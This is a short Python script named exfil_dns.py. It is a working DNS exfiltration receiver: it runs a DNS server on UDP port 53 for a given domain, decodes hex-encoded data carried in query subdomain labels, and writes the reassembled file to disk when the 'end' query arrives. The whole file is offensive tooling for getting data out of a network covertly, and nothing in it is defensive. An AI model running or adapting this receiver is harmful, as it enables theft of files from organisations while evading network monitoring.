# SPDX-License-Identifier: Apache-2.0
"""exfil_dns.py DOMAIN FILE: whoever has a domain, and puts together what is asked for below it: hexadecimal, one label a
piece. Asked for end.DOMAIN, it makes FILE of it.
"""

import socketserver
import sys
from pathlib import Path

from dns import TXT, question

PIECES: dict[str, bytes] = {}


class Answer(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        packet, connection = self.request
        name, kind, end = question(packet)
        if name == f"end.{sys.argv[1]}":
            Path(sys.argv[2]).write_bytes(b"".join(PIECES.values()))
        elif name.endswith(f".{sys.argv[1]}"):
            PIECES.setdefault(name, bytes.fromhex(name.partition(".")[0]))
        data = b"\x02ok" if kind == TXT else bytes((192, 0, 2, 1))
        head = packet[:2] + b"\x81\x80\0\1\0\1" + bytes(4)
        record = b"\xc0\x0c" + packet[end - 4 : end] + b"\0\0\0\0" + len(data).to_bytes(2, "big") + data
        connection.sendto(head + packet[12:end] + record, self.client_address)


with socketserver.UDPServer(("0.0.0.0", 53), Answer) as server:
    server.serve_forever()
